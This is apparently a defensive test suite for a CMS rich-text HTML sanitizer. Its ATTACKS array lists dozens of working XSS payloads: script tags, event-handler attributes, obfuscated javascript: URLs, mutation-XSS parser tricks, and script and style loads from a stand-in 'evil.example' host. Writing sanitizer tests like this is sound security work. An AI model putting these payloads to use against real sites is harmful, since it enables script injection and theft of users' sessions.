// Rich text against attacks: nothing but the allow-list may come out, and cleaning twice changes nothing.
// Holds: contract 2.1 richtext
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { sanitizeRichText } from '../../../src/lib/fields/sanitize.ts'
import { richTextToText } from '../../../src/lib/rules/conditions/plain-text.ts'
import { processorMs } from '../../support/processor.ts'

/** Exactly what the allow-list can print; anything else with a < in it is a hole. */
const TAG =
  /^<(?:\/?(?:p|h[2-4]|ul|ol|li|blockquote|table|caption|thead|tbody|tfoot|tr|strong|em|u|s|code)|br|hr|ol start="-?\d{1,6}"|\/a|\/t[hd]|t[hd](?: (?:col|row)span="\d{1,2}")*(?: scope="(?:row|col)")?|a href="[^"<>\s]+"(?: rel="external noopener")?)>$/

const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://bank.example@evil.example/">x</a>',
  '<a href="cms://settings/x">x</a>',
  '<a href="cms:javascript:alert(1)">x</a>',
  '<a href="https://x.de/" onclick="alert(1)" target=_blank style="x" class="y" id=z rel="opener">x</a>',
  '<a href="https://x.de/?a=&quot; onmouseover=&quot;alert(1)">x</a>',
  "<a href='https://x.de/\"><script>alert(1)</script>'>x</a>",
  '<a href="x" href="javascript:alert(1)">x</a>',
  '<p style="background:url(javascript:alert(1))" class="admin" id="login">x</p>',
  '<p onclick=alert(1)>x</p>',
  '<p/onclick=alert(1)>x',
  '<p\u0000onclick=alert(1)>x',
  '<style>@import "//evil.example"; p { color: red }</style>x',
  '<link rel=stylesheet href=//evil.example><base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">',
  '<input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button>',
  '<details open ontoggle=alert(1)>x</details><video><source onerror=alert(1)></video>',
  '<body onload=alert(1)><frameset onload=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php echo 1 ?><% x %><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<td colspan="2" onclick=x>x</td><table><td colspan="999999" rowspan="0" scope="row">y</table>',
  '<<p>script>alert(1)<</p>/script>',
  '<p title="><img src=x onerror=alert(1)>">x</p>',
  '<custom-element onclick=alert(1)><slot></slot></custom-element>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;',
  '<div><div><p>x</div></div></section></main></body></html>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<table><caption><svg><title><table><img src=x onerror=alert(1)></table></title></svg></caption></table>',
  '<p>' + '<b>'.repeat(500) + 'deep',
  '<plaintext><img src=x onerror=alert(1)>',
  '<b id="__proto__">x</b><a name="constructor" href="/x">y</a>',
]

function onlyAllowed(clean: string): void {
  for (const [tag] of clean.matchAll(/<[^>]*>?/g)) assert.match(tag, TAG, clean)
  assert.doesNotMatch(clean.replace(/<[^>]*>/g, ''), /[<>]/)
  for (const [, href] of clean.matchAll(/<a href="([^"]*)/g)) leadsNowhereBad(href!.replaceAll('&amp;', '&'), clean)
  balanced(clean)
}

/** As a browser resolves it on a page. */
function leadsNowhereBad(href: string, clean: string): void {
  const url = new URL(href, 'https://this.example/dir/page')
  assert.match(url.protocol, /^(https?|mailto|tel|cms):$/, clean)
  assert.doesNotMatch(url.host, /evil/, clean)
}

function balanced(clean: string): void {
  const open: string[] = []
  for (const [, end, name] of clean.matchAll(/<(\/?)([a-z0-9]+)/g)) {
    if (name === 'br' || name === 'hr') continue
    if (!end) open.push(name!)
    else assert.equal(open.pop(), name, clean)
  }
  assert.deepEqual(open, [], clean)
}

describe('attacks on rich text', () => {
  for (const attack of ATTACKS) {
    test(attack.slice(0, 100), () => {
      for (const rules of [
        {},
        { nodes: [], marks: [] },
        { nodes: ['table' as const], marks: ['em' as const, 'link' as const] },
      ]) {
        const clean = sanitizeRichText(attack, rules)
        onlyAllowed(clean)
        assert.equal(sanitizeRichText(clean, rules), clean, 'cleaning twice')
      }
    })
  }
  test('random mixtures of the attacks', () => {
    let seed = 7
    const next = (below: number) => (seed = (seed * 48271) % 2147483647) % below
    for (let i = 0; i < 400; i++) {
      const parts = Array.from({ length: 4 }, () => ATTACKS[next(ATTACKS.length)]!)
      const cut = parts.map((part) => part.slice(next(8), part.length - next(12))).join('')
      const clean = sanitizeRichText(cut)
      onlyAllowed(clean)
      assert.equal(sanitizeRichText(clean), clean, cut)
    }
  })
})

const KEPT = [
  '<p>a</p>',
  '<h2>a</h2><h3>b</h3><h4>c</h4>',
  '<ul><li><p>a</p><ol><li>b</li></ol></li></ul>',
  '<blockquote><p>a</p></blockquote><hr>',
  '<table><caption>t</caption><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td rowspan="2">b</td></tr></tbody></table>',
  '<p><strong>a</strong><em>b</em><u>c</u><s>d</s><code>e</code><br>f</p>',
  '<p><a href="https://x.de/?a=1&amp;b=ü" rel="external noopener">x</a></p>',
  '<p><a href="#a">x</a><a href="?b">x</a><a href="../c">x</a><a href="tel:+49123">x</a></p>',
  '<ol start="24"><li>a<ol start="0"><li>b</li></ol></li></ol>',
  '<p></p><p>a</p>',
  '<p>{{ 7*7 }} ${x} &lt;b&gt; &amp;amp; \u202E "\'`</p>',
]
const CHANGED: [string, string][] = [
  ['<b>a</b><i>b</i><strike>c</strike><del>d</del>', '<strong>a</strong><em>b</em><s>c</s><s>d</s>'],
  ['<h1>a</h1><h5>b</h5><h6>c</h6>', '<h2>a</h2><h4>b</h4><h4>c</h4>'],
  ['<div>a</div><div>b</div>', '<p>a</p><p>b</p>'],
  ['<span style="x">a</span><font color=red>b</font>', 'ab'],
  ['<a href="/x" target="_blank">a</a>', '<a href="/x">a</a>'],
  ['<a>a</a><a name="x">b</a>', 'ab'],
  ['<a href=" https://x.de ">a</a>', '<a href="https://x.de" rel="external noopener">a</a>'],
  ['<li>a</li><td>b</td><tr><th>c</th></tr>', 'abc'],
  ['<div><p>a</p></div>', '<p>a</p>'],
  ['<div>\n<h2>a</h2>\n<div><ul><li><div>b</div></li></ul></div></div>', '\n<h2>a</h2>\n<ul><li><p>b</p></li></ul>'],
  ['<div>a<p>b</p><b>c</b> d<br>e<div></div></div>f', '<p>a</p><p>b</p><p><strong>c</strong> d<br>e</p>f'],
  ['<blockquote><div><div>a</div><div>b</div></div></blockquote>', '<blockquote><p>a</p><p>b</p></blockquote>'],
  ['<div class="a" id=b>&nbsp;</div><div><br></div>', '<p>\u00a0</p><p><br></p>'],
  ['<ol start="03"><li>a</li></ol>', '<ol start="3"><li>a</li></ol>'],
  ['<ol start="1" type="a"><li>a</li></ol>', '<ol><li>a</li></ol>'],
  ['<ol start="-0"><li>a</li></ol>', '<ol start="0"><li>a</li></ol>'],
  ['<ol start="12345678"><li>a</li></ol><ul start="3"><li>b</li></ul>', '<ol><li>a</li></ol><ul><li>b</li></ul>'],
  ['<p>120 m<sup>2</sup>, 10<sup><b>-3</b></sup>, CO<sub>2</sub></p>', '<p>120 m², 10<strong>⁻³</strong>, CO₂</p>'],
  ['<p>the 1<sup>st</sup>, x<sup>n+1</sup>, [a<sup>&amp;2</sup>]</p>', '<p>the 1st, xⁿ⁺¹, [a&amp;²]</p>'],
  ['<p>a<p>b', '<p>a</p><p>b</p>'],
  ['<td colspan="1">', ''],
]

describe('what rich text keeps', () => {
  for (const markup of KEPT) test(markup, () => assert.equal(sanitizeRichText(markup), markup))
  for (const [markup, clean] of CHANGED)
    test(`${markup} → ${clean}`, () => assert.equal(sanitizeRichText(markup), clean))

  test('only the nodes and marks that are asked for', () => {
    const markup = '<h2>a</h2><ul><li>b</li></ul><p><b>c</b><em>d</em><a href="/x">e</a></p><hr>'
    assert.equal(sanitizeRichText(markup, { nodes: [], marks: [] }), 'ab<p>cde</p>')
    assert.equal(sanitizeRichText(markup, { nodes: ['h2'], marks: ['em'] }), '<h2>a</h2>b<p>c<em>d</em>e</p>')
  })
  test('links to content get their address when shown, and become text without one', () => {
    const resolve = ({ type, ref }: { type: string; ref: string }) => (ref === 'gone' ? undefined : `/${type}/${ref}`)
    const show = (markup: string) => sanitizeRichText(markup, { resolve })
    assert.equal(show('<a href="cms://pages/a#b">x</a>'), '<a href="/page/a#b">x</a>')
    assert.equal(show('<a href="cms://entries/a">x</a>'), '<a href="/entry/a">x</a>')
    assert.equal(show('<a href="cms://media/a">x</a>'), '<a href="/media/a">x</a>')
    assert.equal(show('<a href="cms://pages/gone">x</a>'), 'x')
  })
})

describe('bounds', () => {
  test('too long a markup is refused', () => {
    assert.throws(() => sanitizeRichText('x'.repeat(200_001)), { code: 'payload-too-large' })
  })
  for (const part of [
    '<p>',
    '<b>',
    '<a><p>',
    '<',
    '&',
    '<td>x</td>',
    '<svg><p>',
    '<!--',
    '<a href=//',
    '</p>',
    '<li>',
    '<div>',
    '<div>a',
    '<sup>2',
  ]) {
    test(`200,000 characters of ${part} are cleaned in time`, () => {
      const start = processorMs()
      richTextToText(sanitizeRichText(part.repeat(Math.floor(200_000 / part.length))))
      assert.ok(processorMs() - start < 4000)
    })
  }
})
